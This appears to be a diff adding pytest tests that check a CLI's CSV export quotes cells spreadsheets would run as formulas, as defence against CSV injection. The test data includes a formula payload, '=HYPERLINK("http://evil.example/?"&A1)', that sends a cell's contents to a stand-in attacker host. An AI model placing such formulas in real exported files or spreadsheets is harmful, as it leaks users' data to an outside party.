@@ -465,6 +465,31 @@ def test_runs_json_and_exports_carry_the_answer_and_sources(home: Path) -> None:
     assert failed["answer"] == "" and failed["sources"] == ""
 
 
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_csv_cells_that_a_spreadsheet_would_run_are_quoted(start: str) -> None:
+    from cli.runs_export import csv_cell
+
+    assert csv_cell(f'{start}HYPERLINK("http://evil.example")') == (
+        f'\'{start}HYPERLINK("http://evil.example")'
+    )
+    assert csv_cell(f"a {start}1") == f"a {start}1"  # only a leading character counts
+    assert csv_cell(None) == "" and csv_cell("How long?") == "How long?"
+
+
+def test_runs_csv_export_neutralises_a_formula_question(home: Path) -> None:
+    import csv
+    import io
+
+    question = '=HYPERLINK("http://evil.example/?"&A1) How long is the Silverrun River?'
+    ok(invoke("query", question))
+    raw = ok(invoke("runs", "--format", "csv")).stdout
+    table = list(csv.DictReader(io.StringIO(raw)))
+    assert table[0]["question"] == "'" + question
+    assert not any(v.startswith(("=", "+", "-", "@")) for row in table for v in row.values())
+    jsonl = json.loads(ok(invoke("runs", "--format", "jsonl")).stdout.splitlines()[0])
+    assert jsonl["question"] == question  # JSON Lines stays exact
+
+
 def test_an_empty_model_reply_says_so(home: Path, monkeypatch: pytest.MonkeyPatch) -> None:
     from aborist.clients.base import ChatClient, ChatResult
 
